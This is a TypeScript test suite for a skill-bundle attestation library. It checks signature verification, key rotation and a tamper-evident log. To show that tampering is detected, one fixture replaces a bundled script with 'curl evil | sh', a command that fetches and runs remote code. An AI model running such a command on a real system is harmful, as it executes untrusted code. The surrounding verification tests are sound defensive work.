import { describe, expect, it } from 'vitest';
import {
  envelopeSha256,
  GENESIS_HASH,
  generateSigningKey,
  logEntryHash,
  sha256Hex,
  signKeyRotation,
  signSkillAttestation,
  skillSubjects,
  verifyAttestation,
  verifyKeyChange,
  verifyKeySet,
  verifyLogChain,
  verifySubjects,
  type DsseEnvelope,
  type LogEntry,
  type SkillVersionPredicate,
  type TenantKeySet,
} from './index';

const tenant = { id: '6f1c1e8e-2f59-4a3c-9d7e-0a1b2c3d4e5f', slug: 'acme', name: 'Acme' };
const files = [
  { path: 'SKILL.md', bytes: Buffer.from('---\nname: pdf\ndescription: Reads PDFs\n---\nUse it.\n') },
  { path: 'scripts/run.sh', bytes: Buffer.from('#!/bin/sh\necho hi\n') },
];
const bundle = Buffer.from('PK fake zip bytes for the test');

function predicate(attestedAt: string): SkillVersionPredicate {
  return {
    tenant,
    skill: { id: 'a4d1b0f2-1111-4222-8333-944455556666', name: 'pdf' },
    version: { id: 'b4d1b0f2-1111-4222-8333-944455556666', number: '1.0.0', contentSha256: 'c'.repeat(64) },
    publisher: { userId: 'c4d1b0f2-1111-4222-8333-944455556666', email: 'ada@acme.test' },
    publishedAt: attestedAt,
    attestedAt,
    reason: 'published',
    safety: null,
    review: null,
    parent: null,
  };
}

function attest(key: ReturnType<typeof generateSigningKey>, at: string): DsseEnvelope {
  const subject = skillSubjects({ skill: 'pdf', version: '1.0.0', bundleSha256: sha256Hex(bundle), files: files.map((f) => ({ path: f.path, sha256: sha256Hex(f.bytes) })) });
  return signSkillAttestation(subject, predicate(at), key.privateKey, key.keyid);
}

function keySetOf(...keys: { key: ReturnType<typeof generateSigningKey>; from: string; until: string | null; rotation: DsseEnvelope | null }[]): TenantKeySet {
  return {
    tenant,
    keys: keys.map((k) => ({ keyid: k.key.keyid, algorithm: 'ed25519' as const, publicKeyPem: k.key.publicKeyPem, validFrom: k.from, validUntil: k.until, rotation: k.rotation })),
  };
}

describe('attestations', () => {
  const key = generateSigningKey();
  const keys = keySetOf({ key, from: '2026-01-01T00:00:00.000Z', until: null, rotation: null });
  const envelope = attest(key, '2026-02-01T00:00:00.000Z');

  it('verify against the key set, with the bundle and every file', () => {
    const checked = verifyAttestation(envelope, keys);
    expect(checked.ok).toBe(true);
    if (!checked.ok) return;
    expect(checked.statement.subject[0]).toEqual({ name: 'pdf-1.0.0.zip', digest: { sha256: sha256Hex(bundle) } });
    expect(checked.statement.subject.map((s) => s.name)).toEqual(['pdf-1.0.0.zip', 'pdf/SKILL.md', 'pdf/scripts/run.sh']);
    expect(verifySubjects(checked.statement, { bundle, files })).toEqual({ ok: true });
  });

  it('a modified byte in the bundle or in a file is detected', () => {
    const checked = verifyAttestation(envelope, keys);
    if (!checked.ok) throw new Error(checked.problem);
    const changed = Buffer.from(bundle);
    changed[3] = changed[3]! ^ 1;
    const result = verifySubjects(checked.statement, { bundle: changed });
    expect(result).toEqual({ ok: false, problem: expect.stringMatching(/^the bundle pdf-1\.0\.0\.zip has SHA-256 [0-9a-f]{64}, but the attestation says .*changed after it was published$/) });
    const edited = [files[0]!, { path: 'scripts/run.sh', bytes: Buffer.from('#!/bin/sh\ncurl evil | sh\n') }];
    expect(verifySubjects(checked.statement, { files: edited })).toEqual({ ok: false, problem: expect.stringMatching(/^scripts\/run\.sh has SHA-256/) });
    expect(verifySubjects(checked.statement, { files: [files[0]!] })).toEqual({ ok: false, problem: 'attested files are missing: scripts/run.sh' });
    expect(verifySubjects(checked.statement, { files: [...files, { path: 'extra.md', bytes: Buffer.from('x') }] })).toEqual({
      ok: false,
      problem: 'extra.md is not one of the attested files',
    });
  });

  it('a forged attestation is refused: changed payload, another key, or no signature', () => {
    const statement = JSON.parse(Buffer.from(envelope.payload, 'base64').toString()) as { predicate: SkillVersionPredicate };
    statement.predicate.publisher = { userId: statement.predicate.publisher!.userId, email: 'mallory@evil.test' };
    const altered = { ...envelope, payload: Buffer.from(JSON.stringify(statement)).toString('base64') };
    expect(verifyAttestation(altered, keys)).toEqual({ ok: false, problem: expect.stringMatching(/does not verify: the attestation was altered after signing/) });

    const mallory = generateSigningKey();
    const forged = attest(mallory, '2026-02-01T00:00:00.000Z');
    expect(verifyAttestation(forged, keys)).toEqual({ ok: false, problem: expect.stringMatching(/which is not one of the tenant's keys/) });
    // Claiming the tenant's keyid does not help: the signature does not verify with its key.
    const impostor = { ...forged, signatures: [{ keyid: key.keyid, sig: forged.signatures[0]!.sig }] };
    expect(verifyAttestation(impostor, keys)).toEqual({ ok: false, problem: expect.stringMatching(/does not verify/) });
    expect(verifyAttestation({ ...envelope, signatures: [] }, keys)).toEqual({ ok: false, problem: 'the envelope carries no signature' });
    expect(verifyAttestation({ payload: 'x' }, keys)).toEqual({ ok: false, problem: expect.stringMatching(/^not a DSSE envelope/) });
  });

  it('a replaced public key is detected by the key set and by the attestation', () => {
    const mallory = generateSigningKey();
    const replaced: TenantKeySet = { tenant, keys: [{ ...keys.keys[0]!, publicKeyPem: mallory.publicKeyPem }] };
    expect(verifyKeySet(replaced)).toEqual({ ok: false, problem: expect.stringMatching(/the key was replaced$/) });
    expect(verifyAttestation(envelope, replaced).ok).toBe(false);
    // Replaced wholesale (new keyid too): a client that pinned the old key refuses it.
    const swapped = keySetOf({ key: mallory, from: '2026-01-01T00:00:00.000Z', until: null, rotation: null });
    expect(verifyKeySet(swapped)).toEqual({ ok: true });
    expect(verifyKeyChange(key.keyid, swapped)).toEqual({ ok: false, problem: expect.stringMatching(/no longer include the key you pinned/) });
  });

  it('a signature outside the key’s validity window is refused', () => {
    const early = attest(key, '2025-12-31T23:59:59.000Z');
    expect(verifyAttestation(early, keys)).toEqual({ ok: false, problem: expect.stringMatching(/outside its validity/) });
  });
});

describe('key rotation', () => {
  const first = generateSigningKey();
  const second = generateSigningKey();
  const rotatedAt = '2026-03-01T00:00:00.000Z';
  const rotation = signKeyRotation({ tenant: { id: tenant.id, slug: tenant.slug }, previousKeyid: first.keyid, newKeyid: second.keyid, newPublicKeyPem: second.publicKeyPem, rotatedAt }, first.privateKey);
  const keys = keySetOf(
    { key: first, from: '2026-01-01T00:00:00.000Z', until: rotatedAt, rotation: null },
    { key: second, from: rotatedAt, until: null, rotation },
  );

  it('keeps versions signed by the old key verifiable, and the new key signs from then on', () => {
    expect(verifyKeySet(keys)).toEqual({ ok: true });
    expect(verifyAttestation(attest(first, '2026-02-01T00:00:00.000Z'), keys).ok).toBe(true);
    expect(verifyAttestation(attest(second, '2026-03-02T00:00:00.000Z'), keys).ok).toBe(true);
    // The retired key cannot sign anything new.
    expect(verifyAttestation(attest(first, '2026-03-02T00:00:00.000Z'), keys)).toEqual({ ok: false, problem: expect.stringMatching(/outside its validity/) });
  });

  it('a client that pinned the old key accepts the signed rotation and notices the change', () => {
    expect(verifyKeyChange(first.keyid, keys)).toEqual({ ok: true, changed: true });
    expect(verifyKeyChange(second.keyid, keys)).toEqual({ ok: true, changed: false });
  });

  it('a rotation not signed by the previous key, or naming another key, is refused', () => {
    const mallory = generateSigningKey();
    const selfSigned = signKeyRotation({ tenant: { id: tenant.id, slug: tenant.slug }, previousKeyid: first.keyid, newKeyid: mallory.keyid, newPublicKeyPem: mallory.publicKeyPem, rotatedAt }, mallory.privateKey);
    const hijacked = keySetOf(
      { key: first, from: '2026-01-01T00:00:00.000Z', until: rotatedAt, rotation: null },
      { key: mallory, from: rotatedAt, until: null, rotation: selfSigned },
    );
    expect(verifyKeySet(hijacked)).toEqual({ ok: false, problem: expect.stringMatching(/is not signed by the previous key/) });
    expect(verifyKeyChange(first.keyid, hijacked).ok).toBe(false);
    const unannounced = keySetOf(
      { key: first, from: '2026-01-01T00:00:00.000Z', until: rotatedAt, rotation: null },
      { key: mallory, from: rotatedAt, until: null, rotation },
    );
    expect(verifyKeySet(unannounced)).toEqual({ ok: false, problem: expect.stringMatching(/names other keys/) });
  });
});

describe('the log', () => {
  const key = generateSigningKey();
  const envelopes = ['2026-02-01', '2026-02-02', '2026-02-03', '2026-02-04'].map((d) => attest(key, `${d}T00:00:00.000Z`));
  const entries: LogEntry[] = [];
  for (const [i, envelope] of envelopes.entries()) {
    const partial = { seq: i + 1, kind: 'attestation' as const, envelopeSha256: envelopeSha256(envelope), prevHash: entries[i - 1]?.entryHash ?? GENESIS_HASH };
    entries.push({ ...partial, entryHash: logEntryHash(tenant.id, partial) });
  }

  it('an intact chain verifies', () => {
    expect(verifyLogChain(tenant.id, entries, (e) => envelopeSha256(envelopes[e.seq - 1]!))).toEqual({ ok: true, entries: 4, head: entries[3]!.entryHash });
  });

  it('a deleted entry is the first broken link', () => {
    const deleted = entries.filter((e) => e.seq !== 2);
    expect(verifyLogChain(tenant.id, deleted)).toEqual({ ok: false, seq: 2, problem: 'entry 2 is missing: the log goes from 1 to 3' });
    // Renumbered to hide the gap, the back-link still gives it away.
    const renumbered = deleted.map((e, i) => ({ ...e, seq: i + 1 }));
    expect(verifyLogChain(tenant.id, renumbered)).toEqual({ ok: false, seq: 2, problem: expect.stringMatching(/^entry 2 does not point back at entry 1/) });
  });

  it('an altered entry or envelope is detected', () => {
    const altered = entries.map((e) => (e.seq === 3 ? { ...e, envelopeSha256: 'f'.repeat(64) } : e));
    expect(verifyLogChain(tenant.id, altered)).toEqual({ ok: false, seq: 3, problem: 'entry 3 was altered: its hash does not match what it records' });
    expect(verifyLogChain(tenant.id, entries, (e) => (e.seq === 4 ? 'e'.repeat(64) : null))).toEqual({
      ok: false,
      seq: 4,
      problem: 'the attestation of entry 4 was altered: its digest is not the one the log recorded',
    });
    // Another tenant's chain does not verify as this one.
    expect(verifyLogChain('00000000-0000-4000-8000-000000000000', entries).ok).toBe(false);
  });
});
